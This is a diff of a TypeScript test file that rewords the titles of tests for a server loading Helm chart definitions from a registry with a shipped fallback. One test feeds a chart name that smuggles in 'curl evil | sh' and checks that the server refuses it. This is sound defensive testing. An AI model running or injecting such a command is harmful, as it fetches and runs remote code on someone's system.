@@ -1,4 +1,4 @@
-// Tests the definitions of Helm charts: from a registry on this machine, and from the shipped copy.
+// Tests the definitions of Helm charts from a local registry and from the shipped copy.
 import { expect, test } from "vitest";
 import { startLocalServer } from "#tests/support/local-server.ts";
 import { startTestServer } from "#tests/support/test-server.ts";
@@ -14,7 +14,7 @@ async function chart(name: string): Promise<{ status: number; body: Chart }> {
   return { status: answer.status, body: (await answer.json()) as Chart };
 }
 
-test("WI-08 a chart is read from the registry by the server, and then kept", async () => {
+test("WI-08 the server reads a chart from the registry, and then keeps it", async () => {
   const files: Readonly<Record<string, string>> = {
     "/charts/kubernetes/Chart.yaml": "name: mission-control-kubernetes\nversion: 1.2.3\n",
     "/charts/kubernetes/values.schema.json": '{"type": "object", "properties": {"clusterName": {"type": "string"}}}',
@@ -36,7 +36,7 @@ test("WI-08 a chart is read from the registry by the server, and then kept", asy
   expect(registry.requests.map(({ url }) => url).toSorted()).toEqual(Object.keys(files).toSorted());
 });
 
-test("without the registry, or with a wrong answer of it, every chart has a shipped schema", async () => {
+test("if the registry sends an invalid response, every chart has a shipped schema", async () => {
   const answers = ["", "[]", "name: [", "{}"];
   registry.answer = (_, response) => response.writeHead(200).end(answers[registry.requests.length % answers.length]);
   for (const name of chartNames.filter((one) => one !== "kubernetes")) {
@@ -47,7 +47,7 @@ test("without the registry, or with a wrong answer of it, every chart has a ship
   }
 });
 
-test("a chart whose name is a shell command is not used", async () => {
+test("a chart definition whose name contains a shell command is refused", async () => {
   registry.answer = ({ url = "" }, response) =>
     response.writeHead(200).end(url.endsWith(".yaml") ? "name: 'x; curl evil | sh'\nversion: 1.2.3\n" : "{}");
   const other = await startTestServer({ env: { ROLE: "web", CHART_REGISTRY_URL: `${registry.url}/charts/` } });
@@ -55,7 +55,7 @@ test("a chart whose name is a shell command is not used", async () => {
   expect(await answer.json()).toMatchObject({ source: "shipped", chart: expect.stringMatching(/^mission-control/) });
 });
 
-test("an unknown chart is refused with the names of the charts", async () => {
+test("the error for an unknown chart lists the names of the charts", async () => {
   const { status, body } = await chart("nomad");
   expect(status).toBe(400);
   expect(JSON.stringify(body)).toContain("must be aws, azure, prometheus, flux, kubernetes, mission-control");
